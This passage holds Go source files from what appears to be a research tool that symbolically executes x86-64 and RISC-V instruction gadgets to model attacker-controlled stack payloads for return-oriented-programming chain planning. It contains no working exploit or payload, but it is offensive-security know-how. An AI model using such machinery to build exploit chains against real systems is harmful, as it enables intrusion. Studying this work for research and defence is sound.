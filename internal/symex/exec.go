package symex

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// Write is one recorded stack store.
type Write struct {
	Val  *expr.Node // masked to the store size
	Size uint8      // bytes stored
}

// Effect is the symbolic summary of one executed gadget: the paper's
// Table II record content in expression form.
type Effect struct {
	// Regs holds the final symbolic value of every register in terms of the
	// initial register variables and stack-input variables, sized by the
	// backend's register file (16 on x64, 32 on RV64).
	Regs []*expr.Node
	// StackWrites are stores the gadget performed, keyed by byte offset
	// from the entry rsp.
	StackWrites map[int64]Write
	// Inputs are the stack offsets the gadget read without first writing:
	// the attacker-controlled payload cells, with their access size.
	Inputs map[int64]uint8
	// StackDelta is the net rsp displacement.
	StackDelta int64
	// NextRIP is where control goes after the gadget (nil for syscall).
	NextRIP *expr.Node
	// Conds is the path condition (pre-condition conjuncts).
	Conds []*expr.Node
	// MemReads are loads through attacker-determined pointers; each yields
	// an unconstrained dm_* variable.
	MemReads []MemAccess
	// MemWrites are stores through attacker-determined pointers.
	MemWrites []MemAccess
	// End classifies the terminal control transfer.
	End EndKind
}

// HasDerefs reports whether the gadget touches controlled memory.
func (e *Effect) HasDerefs() bool {
	return len(e.MemReads)+len(e.MemWrites) > 0
}

// Exec symbolically executes the steps, which must end with a control
// transfer, and returns the gadget's effect. A Builder is threaded in so
// effects from many gadgets share one node table. Callers executing many
// paths against one builder should use an Executor, which reuses the
// per-path scratch state this one-shot form allocates fresh.
func Exec(b *expr.Builder, steps []Step) (*Effect, error) {
	return run(NewState(b), steps)
}

// run executes the steps against a prepared entry state and summarizes the
// final state into an Effect. The state's scratch (maps, condition and
// memory-access slices) is never referenced by the returned Effect — slices
// are copied and maps rebuilt — so a reusable state can be reset and run
// again without corrupting earlier results. Empty collections stay nil:
// most paths write nothing and read nothing, and downstream consumers only
// ever range over or index these fields.
func run(s *State, steps []Step) (*Effect, error) {
	for i := range steps {
		last := i == len(steps)-1
		if err := s.step(&steps[i], last); err != nil {
			return nil, err
		}
		if s.endKind != EndNone && !last {
			return nil, unsupported("control transfer before final step")
		}
	}
	if s.endKind == EndNone {
		return nil, unsupported("gadget does not end in a control transfer")
	}
	delta, err := s.rspOffset()
	if err != nil {
		return nil, err
	}
	eff := &Effect{
		StackDelta: delta,
		NextRIP:    s.nextRIP,
		End:        s.endKind,
	}
	// Copy rather than alias: a reusable state's Regs slice is overwritten on
	// the next path.
	eff.Regs = append(make([]*expr.Node, 0, len(s.Regs)), s.Regs...)
	if len(s.conds) > 0 {
		eff.Conds = append(make([]*expr.Node, 0, len(s.conds)), s.conds...)
	}
	if len(s.memReads) > 0 {
		eff.MemReads = append(make([]MemAccess, 0, len(s.memReads)), s.memReads...)
	}
	if len(s.memWrites) > 0 {
		eff.MemWrites = append(make([]MemAccess, 0, len(s.memWrites)), s.memWrites...)
	}
	if len(s.writes) > 0 {
		eff.StackWrites = make(map[int64]Write, len(s.writes))
		for _, w := range s.writes {
			eff.StackWrites[w.off] = Write{
				Val:  s.B.And(w.val, s.B.Const(maskOf(w.size), 64)),
				Size: w.size,
			}
		}
	}
	if len(s.inputs) > 0 {
		eff.Inputs = make(map[int64]uint8, len(s.inputs))
		for _, in := range s.inputs {
			eff.Inputs[in.off] = in.size
		}
	}
	return eff, nil
}

// step executes one instruction. A conditional jump that is not last takes
// the path selected by st.Taken and accumulates the corresponding condition;
// a conditional jump that is last terminates the gadget like a direct jump
// (with its condition as a pre-condition).
func (s *State) step(st *Step, last bool) error {
	inst := &st.Inst
	next := inst.End()
	size := inst.Size
	if size == 0 {
		size = 8
	}

	// RISC-V three-operand ALU forms carry their second source in C. They
	// never touch flags; x86-64 instructions never populate C.
	if inst.C.Kind != isa.KindNone {
		switch inst.Op {
		case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpOr, isa.OpXor,
			isa.OpShl, isa.OpShr, isa.OpSar, isa.OpImul, isa.OpSlt, isa.OpSltu:
			return s.stepRV3(inst, next)
		}
	}

	switch inst.Op {
	case isa.OpNop:
		return nil

	case isa.OpMov:
		v, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, size, v, next)

	case isa.OpLea:
		return s.writeOperand(inst.A, size, s.effAddr(inst.B.Mem, next), next)

	case isa.OpAdd, isa.OpSub, isa.OpCmp, isa.OpAnd, isa.OpOr, isa.OpXor, isa.OpTest:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		bv, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		var r *expr.Node
		mask := s.c(maskOf(size))
		switch inst.Op {
		case isa.OpAdd:
			sum := s.B.Add(a, bv)
			r = s.B.And(sum, mask)
			if size == 8 {
				s.CF = s.B.Ult(r, a)
			} else {
				s.CF = s.B.Ne(s.B.And(sum, s.c(maskOf(size)+1)), s.c(0))
			}
			s.OF = s.msb(s.B.And(s.B.Not(s.B.Xor(a, bv)), s.B.Xor(a, r)), size)
		case isa.OpSub, isa.OpCmp:
			r = s.B.And(s.B.Sub(a, bv), mask)
			s.CF = s.B.Ult(a, bv)
			s.OF = s.msb(s.B.And(s.B.Xor(a, bv), s.B.Xor(a, r)), size)
		case isa.OpAnd, isa.OpTest:
			r = s.B.And(a, bv)
			s.CF, s.OF = s.B.False(), s.B.False()
		case isa.OpOr:
			r = s.B.Or(a, bv)
			s.CF, s.OF = s.B.False(), s.B.False()
		case isa.OpXor:
			r = s.B.Xor(a, bv)
			s.CF, s.OF = s.B.False(), s.B.False()
		}
		s.setPZS(r, size)
		if inst.Op == isa.OpCmp || inst.Op == isa.OpTest {
			return nil
		}
		return s.writeOperand(inst.A, size, r, next)

	case isa.OpNot:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, size, s.B.And(s.B.Not(a), s.c(maskOf(size))), next)

	case isa.OpNeg:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		r := s.B.And(s.B.Neg(a), s.c(maskOf(size)))
		s.CF = s.B.Ne(a, s.c(0))
		s.OF = s.B.Eq(a, s.c(uint64(1)<<(uint(size)*8-1)))
		s.setPZS(r, size)
		return s.writeOperand(inst.A, size, r, next)

	case isa.OpInc, isa.OpDec:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		var r *expr.Node
		signMask := uint64(1) << (uint(size)*8 - 1)
		if inst.Op == isa.OpInc {
			r = s.B.And(s.B.Add(a, s.c(1)), s.c(maskOf(size)))
			s.OF = s.B.Eq(r, s.c(signMask))
		} else {
			r = s.B.And(s.B.Sub(a, s.c(1)), s.c(maskOf(size)))
			s.OF = s.B.Eq(a, s.c(signMask))
		}
		s.setPZS(r, size) // CF preserved
		return s.writeOperand(inst.A, size, r, next)

	case isa.OpImul:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		bv, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		r := s.B.And(s.B.Mul(a, bv), s.c(maskOf(size)))
		overflow := s.opaqueFlag("imul")
		s.CF, s.OF = overflow, overflow
		s.setPZS(r, size)
		return s.writeOperand(inst.A, size, r, next)

	case isa.OpShl, isa.OpShr, isa.OpSar:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		if inst.B.Kind == isa.KindImm {
			cnt := uint64(inst.B.Imm) & 0x3F
			if size == 4 {
				cnt &= 0x1F
			}
			if cnt == 0 {
				return nil
			}
			var r *expr.Node
			switch inst.Op {
			case isa.OpShl:
				r = s.B.And(s.B.Shl(a, s.c(cnt)), s.c(maskOf(size)))
				s.CF = s.B.Ne(s.B.And(a, s.c(uint64(1)<<(uint(size)*8-uint(cnt)))), s.c(0))
			case isa.OpShr:
				r = s.B.Lshr(a, s.c(cnt))
				s.CF = s.B.Ne(s.B.And(a, s.c(uint64(1)<<(cnt-1))), s.c(0))
			default: // Sar: sign-extend within the operand width first.
				wide := s.signExtendTo64(a, size)
				r = s.B.And(s.B.Ashr(wide, s.c(cnt)), s.c(maskOf(size)))
				s.CF = s.B.Ne(s.B.And(a, s.c(uint64(1)<<(cnt-1))), s.c(0))
			}
			s.OF = s.B.False()
			s.setPZS(r, size)
			return s.writeOperand(inst.A, size, r, next)
		}
		// Variable shift by cl: exact result, opaque flags; flags also keep
		// their old value when cl is zero, folded into the opaque var.
		cnt := s.B.And(s.Regs[isa.RCX], s.c(0x3F))
		if size == 4 {
			cnt = s.B.And(s.Regs[isa.RCX], s.c(0x1F))
		}
		var shifted *expr.Node
		switch inst.Op {
		case isa.OpShl:
			shifted = s.B.And(s.B.Shl(a, cnt), s.c(maskOf(size)))
		case isa.OpShr:
			shifted = s.B.Lshr(a, cnt)
		default:
			wide := s.signExtendTo64(a, size)
			shifted = s.B.And(s.B.Ashr(wide, cnt), s.c(maskOf(size)))
		}
		isZero := s.B.Eq(cnt, s.c(0))
		r := s.B.Ite(isZero, a, shifted)
		op := s.opaqueFlag("shift")
		s.CF, s.OF = op, op
		s.ZF = s.B.Ite(isZero, s.ZF, s.B.Eq(r, s.c(0)))
		s.SF = s.B.Ite(isZero, s.SF, s.msb(r, size))
		s.PF = s.B.Ite(isZero, s.PF, s.parity(r))
		return s.writeOperand(inst.A, size, r, next)

	case isa.OpPush:
		var v *expr.Node
		if inst.A.Kind == isa.KindImm {
			v = s.c(uint64(inst.A.Imm))
		} else {
			var err error
			v, err = s.readOperand(inst.A, 8, next)
			if err != nil {
				return err
			}
		}
		s.Regs[s.sp] = s.B.Sub(s.Regs[s.sp], s.c(8))
		off, err := s.rspOffset()
		if err != nil {
			return err
		}
		return s.writeStack(off, 8, v)

	case isa.OpPop:
		off, err := s.rspOffset()
		if err != nil {
			return err
		}
		v, err := s.readStack(off, 8)
		if err != nil {
			return err
		}
		s.Regs[s.sp] = s.B.Add(s.Regs[s.sp], s.c(8))
		return s.writeOperand(inst.A, 8, v, next)

	case isa.OpRet:
		off, err := s.rspOffset()
		if err != nil {
			return err
		}
		v, err := s.readStack(off, 8)
		if err != nil {
			return err
		}
		s.Regs[s.sp] = s.B.Add(s.Regs[s.sp], s.c(8))
		if inst.A.Kind == isa.KindImm {
			s.Regs[s.sp] = s.B.Add(s.Regs[s.sp], s.c(uint64(inst.A.Imm)))
		}
		s.nextRIP = v
		s.endKind = EndRet
		return nil

	case isa.OpJmp:
		if inst.A.Kind == isa.KindImm {
			if !last {
				// A followed (merged) direct jump: control simply continues
				// at the target, which is the next step in the path.
				return nil
			}
			s.nextRIP = s.c(uint64(inst.A.Imm))
			s.endKind = EndJmpDir
			return nil
		}
		v, err := s.readOperand(inst.A, 8, next)
		if err != nil {
			return err
		}
		// RISC-V register jumps (jalr x0) may carry a displacement in B;
		// x86-64 jmp reg/mem never populates B.
		if inst.B.Kind == isa.KindImm && inst.B.Imm != 0 {
			v = s.B.Add(v, s.c(uint64(inst.B.Imm)))
		}
		s.nextRIP = v
		s.endKind = EndJmpInd
		return nil

	case isa.OpJcc:
		c := s.cond(inst.Cond)
		if last {
			// Terminal conditional jump: require taken, target is the jump
			// destination (the not-taken variant is a different gadget
			// enumerated by the extractor).
			if st.Taken {
				s.conds = append(s.conds, c)
				s.nextRIP = s.c(uint64(inst.A.Imm))
			} else {
				s.conds = append(s.conds, s.B.BNot(c))
				s.nextRIP = s.c(inst.End())
			}
			s.endKind = EndJmpDir
			return nil
		}
		if st.Taken {
			s.conds = append(s.conds, c)
		} else {
			s.conds = append(s.conds, s.B.BNot(c))
		}
		return nil

	case isa.OpCall:
		if s.hasLink {
			// Link-register ISAs store the return address in a register, not
			// on the stack.
			if inst.A.Kind == isa.KindImm {
				if last {
					return unsupported("direct call as gadget terminal")
				}
				// Followed (merged) direct call: control continues at the
				// callee (the next step on the path).
				s.Regs[s.link] = s.c(next)
				return nil
			}
			v, err := s.readOperand(inst.A, 8, next)
			if err != nil {
				return err
			}
			if inst.B.Kind == isa.KindImm && inst.B.Imm != 0 {
				v = s.B.Add(v, s.c(uint64(inst.B.Imm)))
			}
			s.Regs[s.link] = s.c(next)
			s.nextRIP = v
			s.endKind = EndCallInd
			return nil
		}
		if inst.A.Kind == isa.KindImm {
			if last {
				return unsupported("direct call as gadget terminal")
			}
			// Followed (merged) direct call: push the return address and
			// continue at the callee (the next step on the path).
			s.Regs[s.sp] = s.B.Sub(s.Regs[s.sp], s.c(8))
			off, err := s.rspOffset()
			if err != nil {
				return err
			}
			return s.writeStack(off, 8, s.c(next))
		}
		v, err := s.readOperand(inst.A, 8, next)
		if err != nil {
			return err
		}
		s.Regs[s.sp] = s.B.Sub(s.Regs[s.sp], s.c(8))
		off, err := s.rspOffset()
		if err != nil {
			return err
		}
		if err := s.writeStack(off, 8, s.c(next)); err != nil {
			return err
		}
		s.nextRIP = v
		s.endKind = EndCallInd
		return nil

	case isa.OpSyscall:
		s.endKind = EndSyscall
		return nil

	case isa.OpLeave:
		s.Regs[s.sp] = s.Regs[isa.RBP]
		off, err := s.rspOffset()
		if err != nil {
			return err
		}
		v, err := s.readStack(off, 8)
		if err != nil {
			return err
		}
		s.Regs[s.sp] = s.B.Add(s.Regs[s.sp], s.c(8))
		s.Regs[isa.RBP] = v
		return nil

	case isa.OpXchg:
		a, err := s.readOperand(inst.A, size, next)
		if err != nil {
			return err
		}
		bv, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		if err := s.writeOperand(inst.A, size, bv, next); err != nil {
			return err
		}
		return s.writeOperand(inst.B, size, a, next)

	case isa.OpMovzx:
		v, err := s.readOperand(inst.B, 1, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, size, v, next)

	case isa.OpMovsxd:
		v, err := s.readOperand(inst.B, 4, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, 8, s.signExtendTo64(v, 4), next)

	case isa.OpSetcc:
		v := s.B.Ite(s.cond(inst.Cond), s.c(1), s.c(0))
		return s.writeOperand(inst.A, 1, v, next)

	case isa.OpCqo:
		if size == 8 {
			s.Regs[isa.RDX] = s.B.Ashr(s.Regs[isa.RAX], s.c(63))
		} else {
			v := s.B.And(s.Regs[isa.RAX], s.c(0xFFFF_FFFF))
			s.Regs[isa.RDX] = s.B.And(s.B.Ashr(s.signExtendTo64(v, 4), s.c(31)), s.c(0xFFFF_FFFF))
		}
		return nil

	case isa.OpBcc:
		// RISC-V conditional branch: compares two registers directly, no flags.
		a, err := s.readOperand(inst.B, 8, next)
		if err != nil {
			return err
		}
		bv, err := s.readOperand(inst.C, 8, next)
		if err != nil {
			return err
		}
		var c *expr.Node
		switch inst.Cond {
		case isa.CondE:
			c = s.B.Eq(a, bv)
		case isa.CondNE:
			c = s.B.Ne(a, bv)
		case isa.CondL:
			c = s.B.Slt(a, bv)
		case isa.CondGE:
			c = s.B.BNot(s.B.Slt(a, bv))
		case isa.CondB:
			c = s.B.Ult(a, bv)
		case isa.CondAE:
			c = s.B.BNot(s.B.Ult(a, bv))
		default:
			return unsupported("branch condition %d", inst.Cond)
		}
		if last {
			if st.Taken {
				s.conds = append(s.conds, c)
				s.nextRIP = s.c(uint64(inst.A.Imm))
			} else {
				s.conds = append(s.conds, s.B.BNot(c))
				s.nextRIP = s.c(inst.End())
			}
			s.endKind = EndJmpDir
			return nil
		}
		if st.Taken {
			s.conds = append(s.conds, c)
		} else {
			s.conds = append(s.conds, s.B.BNot(c))
		}
		return nil

	case isa.OpJal:
		// jal rd, target with rd outside {x0, ra} (those decode to
		// OpJmp/OpCall): record the link value and continue at the target,
		// which is the next step on a followed path.
		if last {
			return unsupported("jal as gadget terminal")
		}
		return s.writeOperand(inst.B, 8, s.c(next), next)

	case isa.OpJalr:
		// jalr rd, off(rs1) with rd outside {x0, ra}: an indirect jump that
		// also records the link value.
		v, err := s.readOperand(inst.A, 8, next)
		if err != nil {
			return err
		}
		if inst.C.Kind == isa.KindImm && inst.C.Imm != 0 {
			v = s.B.Add(v, s.c(uint64(inst.C.Imm)))
		}
		if err := s.writeOperand(inst.B, 8, s.c(next), next); err != nil {
			return err
		}
		s.nextRIP = v
		s.endKind = EndJmpInd
		return nil

	case isa.OpLoad:
		// Sign-extending sub-width load (lb/lh/lw).
		v, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, 8, s.signExtendTo64(v, size), next)

	case isa.OpLoadU:
		// Zero-extending sub-width load (lbu/lhu/lwu).
		v, err := s.readOperand(inst.B, size, next)
		if err != nil {
			return err
		}
		return s.writeOperand(inst.A, 8, v, next)

	case isa.OpAuipc:
		return s.writeOperand(inst.A, 8, s.c(inst.Addr+uint64(inst.B.Imm)), next)

	case isa.OpIdiv, isa.OpDiv, isa.OpDivU, isa.OpRem, isa.OpRemU:
		return unsupported("%s", inst.Op)
	case isa.OpHlt, isa.OpInt3:
		return unsupported("%s", inst.Op)
	}
	return unsupported("op %s", inst.Op)
}

// stepRV3 executes a RISC-V three-operand ALU instruction: A = B op C, all
// 64-bit, with no flag side effects.
func (s *State) stepRV3(inst *isa.Inst, next uint64) error {
	a, err := s.readOperand(inst.B, 8, next)
	if err != nil {
		return err
	}
	bv, err := s.readOperand(inst.C, 8, next)
	if err != nil {
		return err
	}
	b := s.B
	var r *expr.Node
	switch inst.Op {
	case isa.OpAdd:
		r = b.Add(a, bv)
	case isa.OpSub:
		r = b.Sub(a, bv)
	case isa.OpAnd:
		r = b.And(a, bv)
	case isa.OpOr:
		r = b.Or(a, bv)
	case isa.OpXor:
		r = b.Xor(a, bv)
	case isa.OpShl:
		r = b.Shl(a, b.And(bv, s.c(63)))
	case isa.OpShr:
		r = b.Lshr(a, b.And(bv, s.c(63)))
	case isa.OpSar:
		r = b.Ashr(a, b.And(bv, s.c(63)))
	case isa.OpImul:
		r = b.Mul(a, bv)
	case isa.OpSlt:
		r = b.Ite(b.Slt(a, bv), s.c(1), s.c(0))
	case isa.OpSltu:
		r = b.Ite(b.Ult(a, bv), s.c(1), s.c(0))
	}
	return s.writeOperand(inst.A, 8, r, next)
}

// signExtendTo64 sign-extends a value known to fit in the operand size.
func (s *State) signExtendTo64(v *expr.Node, size uint8) *expr.Node {
	if size == 8 {
		return v
	}
	shift := uint64(64 - uint(size)*8)
	return s.B.Ashr(s.B.Shl(v, s.c(shift)), s.c(shift))
}
