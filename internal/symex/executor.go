package symex

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// Executor symbolically executes many gadget paths against one Builder,
// reusing the per-path machine state between runs. The one-shot Exec
// allocates a fresh State — two maps, several slices — per path, and on the
// cold extraction path (hundreds of thousands of candidate paths, most of
// them rejected as unsupported) that per-path garbage dominates GC time.
// The executor keeps one State and resets it: scratch slices are truncated
// in place, and the entry register/flag variable nodes — which the builder
// interns, so they are the same pointers for every path — are cached once at
// construction.
//
// Reuse is invisible in the results: run() copies the scratch slices into
// each returned Effect and rebuilds its maps, so effects produced by a
// reused state are structurally identical (node-for-node, the builder
// interning both) to those a fresh State would produce.
//
// An Executor is not safe for concurrent use; extraction gives each shard
// worker its own, bound to the shard's private builder.
type Executor struct {
	st State

	entryRegs                                   []*expr.Node
	entryZF, entrySF, entryOF, entryCF, entryPF *expr.Node
}

// NewExecutor returns an executor bound to b, targeting x86-64.
func NewExecutor(b *expr.Builder) *Executor { return NewExecutorISA(b, isa.X64) }

// NewExecutorISA returns an executor bound to b for a backend.
func NewExecutorISA(b *expr.Builder, be isa.Backend) *Executor {
	ex := &Executor{}
	ex.entryRegs = EntryRegs(b, be)
	ex.entryZF = b.Var("zf0", expr.BoolWidth)
	ex.entrySF = b.Var("sf0", expr.BoolWidth)
	ex.entryOF = b.Var("of0", expr.BoolWidth)
	ex.entryCF = b.Var("cf0", expr.BoolWidth)
	ex.entryPF = b.Var("pf0", expr.BoolWidth)
	ex.st.B = b
	ex.st.initBackend(be)
	return ex
}

// Exec executes one path exactly like the package-level Exec, reusing the
// executor's scratch state.
func (ex *Executor) Exec(steps []Step) (*Effect, error) {
	s := &ex.st
	// Reuse the Regs backing array across paths; run() copies it into each
	// Effect, so resetting it here never corrupts earlier results.
	s.Regs = append(s.Regs[:0], ex.entryRegs...)
	s.ZF, s.SF, s.OF, s.CF, s.PF = ex.entryZF, ex.entrySF, ex.entryOF, ex.entryCF, ex.entryPF
	s.rsp0 = ex.entryRegs[s.sp]
	// stackVars and vc persist across paths: they cache interned nodes and
	// traversal scratch, not per-path state.
	s.writes = s.writes[:0]
	s.inputs = s.inputs[:0]
	s.memReads = s.memReads[:0]
	s.memWrites = s.memWrites[:0]
	s.conds = s.conds[:0]
	s.nextRIP = nil
	s.endKind = EndNone
	s.opaque = 0
	return run(s, steps)
}
