// Package symex symbolically executes short straight-line x86-64 instruction
// sequences (gadget candidates) and produces their pre- and post-conditions
// as expr formulas, mirroring the role angr's symbolic execution plays in the
// paper.
//
// The model follows the paper's restrictions (Section IV-B): register state
// is fully symbolic; memory accesses must be stack-relative (a constant
// offset from the entry rsp) — anything else makes the gadget unsupported;
// values read from untouched stack slots become fresh "stack input"
// variables, which are exactly the attacker-controlled payload cells.
package symex

import (
	"errors"
	"fmt"
	"strconv"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// ErrUnsupported marks gadget candidates whose semantics the executor
// cannot (or deliberately does not) model: non-stack memory access,
// overlapping stack stores, division, and similar.
var ErrUnsupported = errors.New("symex: unsupported gadget semantics")

// unsupportedError defers message formatting until Error is called:
// extraction probes hundreds of thousands of candidate paths whose rejection
// errors are only ever tested with errors.Is, so eagerly rendering the
// message was pure garbage on the cold path.
type unsupportedError struct {
	format string
	args   []any
}

func (e *unsupportedError) Error() string {
	msg := e.format
	if len(e.args) > 0 {
		msg = fmt.Sprintf(e.format, e.args...)
	}
	return ErrUnsupported.Error() + ": " + msg
}

func (e *unsupportedError) Unwrap() error { return ErrUnsupported }

func unsupported(format string, args ...any) error {
	return &unsupportedError{format: format, args: args}
}

// RegVarName is the variable naming convention for initial register values:
// "rax0", "rbx0", ... (x86-64 names; see RegVarNameOn for other backends).
func RegVarName(r isa.Reg) string { return r.String() + "0" }

// RegVarNameOn names the initial-value variable of a register under a
// specific backend ("rax0" on x64, "a00"/"sp0"/... on RV64). For the x64
// backend it matches RegVarName exactly.
func RegVarNameOn(be isa.Backend, r isa.Reg) string { return be.RegName(r) + "0" }

// IsSPVar reports whether a variable name denotes the entry stack pointer
// of any backend ("rsp0" on x64, "sp0" on RV64). Planner components use it
// to special-case stack-pointer dataflow without threading a backend.
func IsSPVar(name string) bool { return name == "rsp0" || name == "sp0" }

// StackVarName names the attacker-controllable value read from the stack at
// the given byte offset from the entry rsp.
func StackVarName(off int64) string {
	if off < 0 {
		return "stk_m" + strconv.FormatInt(-off, 10)
	}
	return "stk_" + strconv.FormatInt(off, 10)
}

// ParseStackVar recovers the offset from a stack variable name.
func ParseStackVar(name string) (int64, bool) {
	rest, ok := strings.CutPrefix(name, "stk_")
	if !ok {
		return 0, false
	}
	neg := false
	if strings.HasPrefix(rest, "m") {
		neg, rest = true, rest[1:]
	}
	v, err := strconv.ParseInt(rest, 10, 64)
	if err != nil {
		return 0, false
	}
	if neg {
		v = -v
	}
	return v, true
}

// IsRegVar reports whether a variable name denotes an initial register value.
// Register names never collide across backends, so the lookup is
// backend-agnostic (x64 names are tried first).
func IsRegVar(name string) (isa.Reg, bool) {
	base, ok := strings.CutSuffix(name, "0")
	if !ok {
		return 0, false
	}
	return isa.AnyRegByName(base)
}

// DerefVarName names the unconstrained value obtained by dereferencing
// attacker-controlled memory (paper Section IV-B: "the variable is left
// unconstrained so that it is free to take on whatever value is necessary").
func DerefVarName(k int) string {
	if k < len(derefNames) {
		return derefNames[k]
	}
	return "dm_" + strconv.Itoa(k)
}

// derefNames precomputes the common low indices: deref names are built once
// per memory read on the extraction hot path, and paths rarely have more
// than a handful of reads.
var derefNames = func() (a [16]string) {
	for i := range a {
		a[i] = "dm_" + strconv.Itoa(i)
	}
	return
}()

// IsDerefVar reports whether a variable denotes a controlled-memory read.
func IsDerefVar(name string) bool { return strings.HasPrefix(name, "dm_") }

// IsAttackerVar reports whether the variable is attacker-chosen: a stack
// payload cell or a controlled-memory read.
func IsAttackerVar(name string) bool {
	if IsDerefVar(name) {
		return true
	}
	_, ok := ParseStackVar(name)
	return ok
}

// Step is one instruction on a chosen path. Taken matters only for
// conditional jumps that are not the final instruction of the gadget.
type Step struct {
	Inst  isa.Inst
	Taken bool
}

// stackWrite is one store to the symbolic stack. Stores live in a small
// slice rather than a map: a path rarely touches more than a handful of
// slots, every consultation already scans all entries for overlaps, and a
// slice resets with a re-slice where a map reset walks every bucket —
// measurable when extraction runs hundreds of thousands of paths through a
// reused state.
type stackWrite struct {
	off  int64
	val  *expr.Node // 64-bit value (masked to size on read)
	size uint8
}

// stackInput is one fresh attacker-input read from the stack.
type stackInput struct {
	off  int64
	size uint8
}

// State is the symbolic machine state during gadget execution.
type State struct {
	B *expr.Builder
	// Regs is sized by the backend's register file (16 on x64, 32 on RV64).
	Regs []*expr.Node

	// Flags as boolean nodes.
	ZF, SF, OF, CF, PF *expr.Node

	writes []stackWrite // stack stores, in program order, offsets from rsp0
	inputs []stackInput // fresh stack reads, in first-read order

	// memReads/memWrites record dereferences of non-stack addresses whose
	// address expression is attacker-determined (e.g. [rbp-8] after a pop
	// rbp). Reads yield fresh unconstrained variables.
	memReads  []MemAccess
	memWrites []MemAccess

	conds   []*expr.Node // accumulated path conditions
	nextRIP *expr.Node   // set once the terminal branch executes
	endKind EndKind
	opaque  int // counter for opaque flag variables

	// Hot-path caches. rsp0 is the interned entry-rsp variable, consulted on
	// every stack-relative address computation. stackVars memoizes the
	// interned stk_N input variables by offset, and vc amortizes free-variable
	// collection in derefAddrOK. All three reference nodes interned in B —
	// stable for the builder's lifetime — so an Executor carries them across
	// paths without resetting.
	rsp0      *expr.Node
	stackVars map[int64]*expr.Node
	vc        expr.VarCollector

	// Backend stack/ABI model: the stack-pointer register, and (for
	// link-register ISAs) the call return-address register and hardwired
	// zero register. Defaults describe x64 (sp=RSP, no link, no zero).
	sp      isa.Reg
	link    isa.Reg
	hasLink bool
	zero    isa.Reg
	hasZero bool
}

// MemAccess is one controlled-memory dereference.
type MemAccess struct {
	// Addr is the effective-address expression over entry state.
	Addr *expr.Node
	// Val is the fresh dm_* variable (reads) or the stored value (writes).
	Val *expr.Node
	// Size is the access width in bytes.
	Size uint8
}

// EndKind classifies how the gadget transfers control at its end.
type EndKind uint8

// Gadget terminations.
const (
	EndNone    EndKind = iota
	EndRet             // ret: next RIP popped from the stack
	EndJmpInd          // jmp reg/mem
	EndCallInd         // call reg/mem (also pushes a return address)
	EndJmpDir          // jmp imm (only before merging)
	EndSyscall         // syscall: terminal for attack goals
)

var _endKindNames = map[EndKind]string{
	EndNone: "none", EndRet: "ret", EndJmpInd: "jmp-ind",
	EndCallInd: "call-ind", EndJmpDir: "jmp-dir", EndSyscall: "syscall",
}

// String names the termination kind.
func (k EndKind) String() string { return _endKindNames[k] }

// NewState returns the fully symbolic x86-64 entry state.
func NewState(b *expr.Builder) *State { return NewStateISA(b, isa.X64) }

// NewStateISA returns the fully symbolic entry state for a backend. A
// hardwired zero register enters as the constant 0 rather than a variable.
func NewStateISA(b *expr.Builder, be isa.Backend) *State {
	s := &State{B: b}
	s.initBackend(be)
	s.Regs = EntryRegs(b, be)
	s.ZF = b.Var("zf0", expr.BoolWidth)
	s.SF = b.Var("sf0", expr.BoolWidth)
	s.OF = b.Var("of0", expr.BoolWidth)
	s.CF = b.Var("cf0", expr.BoolWidth)
	s.PF = b.Var("pf0", expr.BoolWidth)
	s.rsp0 = s.Regs[s.sp]
	return s
}

// initBackend caches the backend's stack/ABI register model on the state.
func (s *State) initBackend(be isa.Backend) {
	s.sp = be.SP()
	s.link, s.hasLink = be.LinkReg()
	s.zero, s.hasZero = be.ZeroReg()
}

// EntryRegs interns the entry register values for a backend: one fresh
// variable per register, except a hardwired zero register, which is the
// constant 0. The builder interns nodes, so repeated calls return the same
// pointers.
func EntryRegs(b *expr.Builder, be isa.Backend) []*expr.Node {
	regs := make([]*expr.Node, be.NumRegs())
	zero, hasZero := be.ZeroReg()
	for r := range regs {
		if hasZero && isa.Reg(r) == zero {
			regs[r] = b.Const(0, 64)
			continue
		}
		regs[r] = b.Var(RegVarNameOn(be, isa.Reg(r)), 64)
	}
	return regs
}

func (s *State) c(v uint64) *expr.Node { return s.B.Const(v, 64) }

// rspOffset returns the constant byte offset of the current rsp from rsp0,
// or an error if rsp has become symbolic.
func (s *State) rspOffset() (int64, error) {
	diff := s.B.Sub(s.Regs[s.sp], s.rsp0)
	if !diff.IsConst() {
		return 0, unsupported("rsp is not a constant offset from entry rsp")
	}
	return int64(diff.Val), nil
}

// stackOffsetOf decides whether an effective-address expression is
// stack-relative and returns its offset.
func (s *State) stackOffsetOf(ea *expr.Node) (int64, error) {
	diff := s.B.Sub(ea, s.rsp0)
	if !diff.IsConst() {
		return 0, unsupported("memory access outside the stack")
	}
	return int64(diff.Val), nil
}

func overlap(aOff int64, aSize uint8, bOff int64, bSize uint8) bool {
	return aOff < bOff+int64(bSize) && bOff < aOff+int64(aSize)
}

// readStack reads size bytes at a constant stack offset. Untouched cells
// produce fresh attacker-controlled input variables.
func (s *State) readStack(off int64, size uint8) (*expr.Node, error) {
	for i := range s.writes {
		if w := &s.writes[i]; w.off == off && w.size == size {
			return s.B.And(w.val, s.c(maskOf(size))), nil
		}
	}
	for i := range s.writes {
		if w := &s.writes[i]; overlap(off, size, w.off, w.size) {
